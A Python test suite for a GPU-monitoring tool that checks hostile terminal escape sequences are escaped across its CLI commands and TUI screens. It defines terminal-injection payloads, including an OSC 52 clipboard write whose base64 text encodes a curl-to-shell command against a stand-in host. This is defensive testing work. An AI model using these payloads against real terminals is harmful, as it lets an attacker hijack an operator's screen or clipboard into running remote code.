"""No string from outside can drive the operator's terminal (issue 25, item 1).

A hostile co-tenant names its process, its arguments and its user with terminal controls (OSC 0
sets the window title, OSC 52 writes the clipboard, CSI 2J clears the screen, their one-character
C1 forms, BEL, a bidi override, Rich markup); a lying peer puts them in its error answers, in
Prometheus labels and in a scenario file; an engine log quotes them. Every surface is then read:
`snapshot`, `diagnose`, `explain`, `plan` and `cluster` (text and --json, stdout and stderr),
error lines, and every screen of the TUI as the terminal would receive it (the text of every
drawn segment). None may hold a character a terminal acts on (`first_control`), and each payload
must be visibly there, escaped, where the surface shows that field (else the test proves nothing).
"""

from __future__ import annotations

import io
import json
from dataclasses import replace
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console

from kvtop.cli import main
from kvtop.commands.node_source import LiveSource
from kvtop.domain.config_override import ConfigOverride
from kvtop.domain.errors import InputError
from kvtop.domain.model import ModelSpec
from kvtop.domain.terminal import first_control, safe_line, safe_text
from kvtop.sources.hub import load_model
from kvtop.sources.nvml import NvmlSource
from kvtop.sources.prometheus import ALL_QUERIES
from kvtop.ui.app import KvtopApp
from kvtop.ui.screens.ledger import RankLedgerScreen
from kvtop.ui.screens.processes import ProcessScreen
from kvtop.ui.screens.signal_confirm import SignalScreen
from kvtop.ui.widgets.gpu_list import GpuList
from tests.data_paths import CASES
from tests.fakes.fake_process_table import FakeProcessTable, launched, titled
from tests.fakes.fake_pynvml import FakePynvml, gpu_from_mib
from tests.local_http import serving
from tests.ui.conftest import wait_for, wait_for_snapshot
from tests.ui.fakes import FixedClock
from tests.ui.helpers import FakeSignalSender

#: What a hostile process or peer writes (each a different way to reach the terminal).
OSC_TITLE = "\x1b]0;PWNED\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
CLEAR = "\x1b[2J\x1b[H"
C1_CSI = "\x9b2J"
C1_OSC = "\x9d0;PWNED\x9c"
BIDI = "\u202egnp.exe"
MARKUP = "[@click=app.quit]click[/] [reverse]x"
PAYLOAD = f"{OSC_TITLE}{OSC_CLIPBOARD}{CLEAR}{C1_CSI}{C1_OSC}\x07\x08\r{BIDI}\x7f{MARKUP}"
SHOWN = safe_line(PAYLOAD)  # what a surface shows in its place

GIB_MIB = 1024
SERVER, TP0, TP1 = 6100, 6101, 6102
CO_TENANT, RENAMED, ORPHAN = 7001, 7002, 7100
SGLANG_ARGV = [
    "python3", "-m", "sglang.launch_server", "--model-path", "meta-llama/Meta-Llama-3-8B", "--tp", "2",
    "--host", "0.0.0.0", "--port", "30000", f"--served-model-name=x{OSC_TITLE}",
]  # fmt: skip


def hostile_table() -> FakeProcessTable:
    table = FakeProcessTable.of([
        launched(SERVER, SGLANG_ARGV),
        titled(TP0, "sglang::scheduler_TP0", SERVER),
        titled(TP1, "sglang::scheduler_TP1", SERVER),
        launched(CO_TENANT, ["python", f"train{PAYLOAD}.py", f"--data={PAYLOAD}"], user=f"ada{C1_CSI}"),
        titled(RENAMED, f"worker {PAYLOAD}", parent_pid=1, user="bob"),
        titled(ORPHAN, f"sglang::scheduler_TP3{CLEAR}", parent_pid=1),
    ])  # fmt: skip
    table.records[RENAMED] = replace(table.records[RENAMED], name=f"w{OSC_TITLE}")
    table.records[CO_TENANT] = replace(table.records[CO_TENANT], cuda_visible_devices=f"0{CLEAR}")
    return table


def hostile_nvml() -> NvmlSource:
    """2 × A100-80GB: SGLang TP2 across both, the hostile co-tenants and an orphan on GPU 1."""
    per_gpu = {0: [(TP0, 9_752)], 1: [(TP1, 9_752), (CO_TENANT, 1_000), (RENAMED, 1_200), (ORPHAN, 2_000)]}
    gpus = [
        gpu_from_mib(
            f"NVIDIA A100-SXM4-80GB{C1_OSC}", index, total_mib=81_920, reserved_mib=557,
            used_mib=sum(mib for _, mib in rows), bus_id=f"00000000:{0x07 + index:02X}:00.0",
            compute=[(pid, mib << 20) for pid, mib in rows],
        )
        for index, rows in per_gpu.items()
    ]  # fmt: skip
    return NvmlSource(nvml_module=FakePynvml(gpus, driver_version=f"550{OSC_TITLE}"), clock=lambda: 1_700_000_100.0)


def endpoints() -> httpx.Client:
    """The engine's port answers with an error that quotes the payload."""

    def answer(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError(f"connection refused by proxy {PAYLOAD}", request=request)

    return httpx.Client(transport=httpx.MockTransport(answer))


def loader(ref: str, *, override: ConfigOverride | None = None) -> ModelSpec:
    if ref == "meta-llama/Meta-Llama-3-8B":
        return load_model("llama-3.1-8b", override=override)
    raise InputError(f"could not fetch {ref}{PAYLOAD}: 404", field="--model")


def hostile_source() -> LiveSource:
    return LiveSource(nvml=hostile_nvml(), table=hostile_table(), model_loader=loader, http_client=endpoints())


@pytest.fixture
def hostile_node(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("kvtop.commands.node_source.open_node_source", lambda *args, **kwargs: hostile_source())


def control_in(text: str) -> str | None:
    """The first terminal control in `text`, as its escape (so a failure prints no control itself)."""
    found = first_control(text)
    return None if found is None else ascii(found)


# --- the sanitiser itself -------------------------------------------------------------------------


@settings(max_examples=300, derandomize=True, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=()), max_size=40))
def test_no_string_keeps_a_control_through_the_sanitiser(text: str) -> None:
    assert control_in(safe_line(text)) is None and "\n" not in safe_line(text)
    assert control_in(safe_text(text)) is None


def test_the_sanitiser_shows_each_control_escaped_and_leaves_text_alone() -> None:
    assert safe_line(OSC_TITLE) == "\\x1b]0;PWNED\\x07"
    assert safe_line(C1_CSI + BIDI) == "\\x9b2J\\u202egnp.exe"
    assert safe_line("a\nb\tc") == "a\\nb\\tc" and safe_text("a\nb\tc\rd") == "a\nb\tc\\rd"
    plain = "vllm serve /models/Llama-3 --max-model-len 32768 · 模型 🦙 ✓"
    assert safe_line(plain) == plain and safe_text(plain) == plain


# --- the commands ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "argv",
    [["snapshot"], ["snapshot", "--json"], ["diagnose"], ["diagnose", "--json"]],
    ids=["snapshot", "snapshot --json", "diagnose", "diagnose --json"],
)
def test_the_node_commands_show_hostile_names_escaped(
    hostile_node: None, capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    status = main(argv)
    out, err = capsys.readouterr()
    assert status in (0, 1) and out.strip()
    assert (control_in(out), control_in(err)) == (None, None)
    if "--json" in argv:
        json.loads(out)  # still a JSON document
    if argv == ["snapshot"]:
        assert f"ada{safe_line(C1_CSI)}" in out and safe_line(OSC_TITLE) in out  # shown, escaped


def test_an_engine_log_quoting_controls_is_explained_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log = (CASES / "sglang" / "C01" / "engine.log").read_text()
    hostile = tmp_path / f"engine{OSC_TITLE}.log"
    hostile.write_text(f"{log}[2025-07-22 10:00:00] {PAYLOAD} Load weight end. avail mem={PAYLOAD}\n")
    for argv in (
        ["explain", str(hostile), "--model", "qwen3-235b-a22b", "--gpu", "H100"],
        ["explain", str(hostile), "--model", "qwen3-235b-a22b", "--gpu", "H100", "--json"],
        ["explain", str(tmp_path / f"missing{PAYLOAD}.log")],
    ):
        main(argv)
        out, err = capsys.readouterr()
        assert (control_in(out), control_in(err)) == (None, None), argv


def test_error_lines_quoting_controls_are_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["plan", "--model", f"/models/{PAYLOAD}", "--gpu", "H100"]) == 2
    with pytest.raises(SystemExit):
        main(["snapshot", f"--{PAYLOAD}"])  # argparse's own error quotes the argument
    assert main(["plan", "--model", "llama-3.1-8b", "--cmd", f"vllm serve m --tp{PAYLOAD} 2"]) in (0, 2)
    out, err = capsys.readouterr()
    assert (control_in(out), control_in(err)) == (None, None)
    assert f"/models/{safe_line(OSC_TITLE)}" in err


def hostile_prometheus(handler: BaseHTTPRequestHandler) -> None:
    """A Prometheus whose every series carries the payload in its labels (a lying peer)."""
    from urllib.parse import parse_qs, urlsplit

    query = parse_qs(urlsplit(handler.path).query)["query"][0]
    key = next(k for k, expr in ALL_QUERIES.items() if expr == query)
    instance = f"10.0.0.1:9400{OSC_TITLE}"
    labels = {
        "up": {"__name__": "up", "job": f"dcgm{CLEAR}", "instance": instance},
        "age": {"job": f"dcgm{CLEAR}", "instance": instance},
        "dcgm": {"__name__": "DCGM_FI_DEV_FB_USED", "gpu": f"0{C1_CSI}", "modelName": f"H100{C1_OSC}",
                 "Hostname": f"node{PAYLOAD}", "instance": instance},
        "dcgm_gpus": {"Hostname": f"node{PAYLOAD}", "instance": instance},
        "engine": {"__name__": "sglang:token_usage", "instance": instance},
    }.get(key)  # fmt: skip
    result = [] if labels is None else [{"metric": labels, "value": [1_750_000_000.0, "1000"]}]
    body = json.dumps({"status": "success", "data": {"resultType": "vector", "result": result}}).encode()
    handler.send_response(200)
    handler.send_header("Content-Type", "application/json")
    handler.send_header("Content-Length", str(len(body)))
    handler.end_headers()
    handler.wfile.write(body)


def test_prometheus_labels_are_shown_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    with serving(hostile_prometheus) as url:
        assert main(["cluster", "--prometheus", url]) == 0
        text, err = capsys.readouterr()
        assert main(["cluster", "--prometheus", url, "--json"]) == 0
        document, err_json = capsys.readouterr()
        assert main(["cluster", "--prometheus", url, "--gpus"]) == 0  # every GPU listed, its labels shown
        listed, err_listed = capsys.readouterr()
    assert [control_in(part) for part in (text, err, document, err_json, listed, err_listed)] == [None] * 6
    assert f"node{safe_line(OSC_TITLE)}" in text
    assert f"GPU 0{safe_line(C1_CSI)} H100{safe_line(C1_OSC)}: 1.0 / — used (dcgm)" in listed
    assert json.loads(document)["nodes"][0]["name"].startswith(f"node{safe_line(OSC_TITLE)}")


def test_a_hostile_scenario_file_is_shown_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    scenario = {
        "name": f"evil{OSC_TITLE}",
        "description": PAYLOAD,
        "gpu": {"model": "H100", "count": 2, "name": f"NVIDIA H100{CLEAR}", "driver_version": f"1{C1_CSI}"},
        "engines": [{"model": "llama-3.1-8b", "server_pid": 41000, "version": f"0.5.9{OSC_TITLE}",
                     "command": f"python3 -m sglang.launch_server --model-path /m{PAYLOAD} --tp 2 --port 30000"}],
        "foreign_processes": [{"gpu": 1, "pid": 4242, "used": "2GiB", "cmdline": ["python", PAYLOAD],
                               "user": f"u{OSC_CLIPBOARD}"}],
        "orphans": [{"gpu": 0, "pid": 4300, "used": "1GiB", "title": f"sglang::scheduler_TP5{PAYLOAD}"}],
    }  # fmt: skip
    path = tmp_path / "evil.json"
    path.write_text(json.dumps(scenario))
    for argv in (["--demo", str(path), "snapshot"], ["--demo", str(path), "diagnose"]):
        main(argv)
        out, err = capsys.readouterr()
        assert out.strip() or err.strip()
        assert (control_in(out), control_in(err)) == (None, None), argv


# --- the TUI --------------------------------------------------------------------------------------


def drawn_text(app: KvtopApp) -> str:
    """The text of every segment the screen draws, as the terminal would receive it (styles apart)."""
    console = Console(width=app.size.width, height=app.size.height, file=io.StringIO(), force_terminal=True,
                      color_system="truecolor", record=True, legacy_windows=False, safe_box=False)  # fmt: skip
    console.print(app.screen._compositor.render_update(full=True, screen_stack=app._background_screens))
    return console.export_text(styles=False)


async def test_no_screen_of_the_tui_draws_a_control() -> None:
    app = KvtopApp(hostile_source(), loader, interval_s=3600.0, clock=FixedClock(), theme="dark",
                   signal_sender=FakeSignalSender())  # fmt: skip
    drawn: dict[str, str] = {}
    async with app.run_test(size=(200, 60), notifications=True) as pilot:
        await wait_for_snapshot(pilot)
        await pilot.press("tab")
        drawn["dashboard and findings"] = drawn_text(app)
        gpus = app.screen.query_one(GpuList)
        gpus.focus()
        gpus.selected = 1
        await pilot.press("enter")
        await wait_for(pilot, lambda: isinstance(app.screen, RankLedgerScreen))
        drawn["rank ledger of GPU 1"] = drawn_text(app)
        await pilot.press("escape")
        await pilot.press("x")  # the process panel of GPU 1
        await wait_for(pilot, lambda: isinstance(app.screen, ProcessScreen))
        await pilot.pause()
        screen = app.screen
        assert isinstance(screen, ProcessScreen)
        for row, pid in enumerate(row.pid for row in screen._rows):
            screen.query_one("DataTable").move_cursor(row=row)
            await pilot.pause()
            drawn[f"process panel, pid {pid} selected"] = drawn_text(app)
            if pid == CO_TENANT:
                await pilot.press("T")
                await wait_for(pilot, lambda: isinstance(app.screen, SignalScreen))
                drawn["signal dialog of the co-tenant"] = drawn_text(app)
                await pilot.press("n")
                await wait_for(pilot, lambda: isinstance(app.screen, ProcessScreen))
        await pilot.press("escape")
        app.notify(f"{MARKUP} {OSC_TITLE}", timeout=60)
        await wait_for(pilot, lambda: app.screen.query("Toast"))
        await pilot.pause()
        drawn["a toast"] = drawn_text(app)
    controls = {surface: control_in(text) for surface, text in drawn.items() if control_in(text)}
    assert controls == {}
    panel = "\n".join(text for surface, text in drawn.items() if surface.startswith("process panel"))
    assert safe_line(OSC_TITLE) in panel and "[@click=app.quit]" in panel  # shown as written, not obeyed
    assert f"{MARKUP} {safe_line(OSC_TITLE)}" in drawn["a toast"]
